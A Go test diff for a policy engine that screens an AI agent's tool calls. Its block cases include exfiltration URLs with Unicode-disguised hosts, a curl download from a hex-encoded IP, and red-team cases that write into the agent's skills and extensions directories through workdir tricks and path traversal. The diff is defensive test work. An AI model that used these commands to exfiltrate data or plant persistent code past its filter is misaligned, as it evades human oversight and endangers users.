@@ -70,6 +70,12 @@ func TestDefaultPolicyBlocks(t *testing.T) {
 		{"a fullwidth host", "web_fetch", `{"url":"https://ｗｅｂｈｏｏｋ.site/abc"}`, "NET_EXFIL_ENDPOINT"},
 		{"an ideographic full stop in the host", "web_fetch", `{"url":"https://webhook。site/abc"}`, "NET_EXFIL_ENDPOINT"},
 		{"a numeric host in a command", "exec", `{"command":"curl -s http://0x2d3d0102/x -o /tmp/x"}`, "NET_RAW_IP_URL"},
+		// Red team 2026-12-07: exec's workdir is where relative names
+		// land, and a relative file name is read from the workspace.
+		{"tar -x run in the managed skills", "exec", `{"command":"tar -xzf /tmp/s.tgz","workdir":"~/.openclaw/skills"}`, "FS_PERSISTENCE"},
+		{"a relative redirect in a plugin's directory", "exec", `{"command":"echo x > index.js","workdir":"/home/u/.openclaw/extensions/p"}`, "FS_PERSISTENCE"},
+		{"a file written out of the workspace into the skills", "write", `{"path":"../skills/x/SKILL.md","content":"x"}`, "FS_PERSISTENCE"},
+		{"a dispatched exec with a workdir", "tool_call", `{"id":"exec","args":{"command":"git clone https://github.com/a/b","workdir":"~/.openclaw/extensions"}}`, "FS_PERSISTENCE"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			d := j.Decide(wire.ToolCall{ID: "c", Name: tt.tool, Arguments: tt.args})
@@ -105,6 +111,9 @@ func TestDefaultPolicyAllows(t *testing.T) {
 		{"process", `{"action":"send-keys","sessionId":"s1","keys":["Up","Up","Enter"]}`},
 		{"process", `{"action":"send-keys","sessionId":"s1","literal":"print(\"hello"}`},
 		{"apply_patch", `{"input":"*** Begin Patch\n*** Update File: src/a.go\n@@\n-a\n+b\n*** End Patch"}`},
+		{"exec", `{"command":"tar -xzf /tmp/s.tgz && ls","workdir":"/home/u/project"}`},
+		{"exec", `{"command":"cat SKILL.md","workdir":"~/.openclaw/skills/weather"}`},
+		{"write", `{"path":"../notes/today.md","content":"x"}`},
 	} {
 		if d := j.Decide(wire.ToolCall{Name: tt.tool, Arguments: tt.args}); d.Block {
 			t.Errorf("%s %s: blocked %+v", tt.tool, tt.args, d)
